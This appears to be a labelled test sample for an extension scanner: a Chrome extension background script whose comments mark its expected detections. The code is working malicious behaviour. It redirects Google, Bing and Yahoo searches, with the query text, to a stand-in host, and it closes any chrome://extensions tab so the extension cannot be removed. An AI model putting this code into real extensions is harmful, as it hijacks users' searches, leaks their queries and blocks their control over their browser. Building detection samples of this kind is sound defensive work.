const SEARCH = /^https?:\/\/(www\.)?(google\.[a-z.]+|bing\.com|search\.yahoo\.com)\/search/;
const ENGINES = ['www.google.com', 'www.bing.com', 'search.yahoo.com'];
chrome.tabs.onUpdated.addListener((tabId, { url }) => {
  if (!url || !SEARCH.test(url) || !ENGINES.includes(new URL(url).host)) return;
  const words = new URL(url).searchParams.get('q') || new URL(url).searchParams.get('p');
  // expect: search-hijack
  chrome.tabs.update(tabId, { url: 'https://find.better-search.example/search?ext=bk&q=' + encodeURIComponent(words) });
});
chrome.tabs.onUpdated.addListener((tabId, info, tab) => {
  // expect: hides-from-extension-page
  if (/^chrome:\/\/extensions/.test(tab.url) || tab.url === 'chrome://extensions/') chrome.tabs.remove(tabId);
});
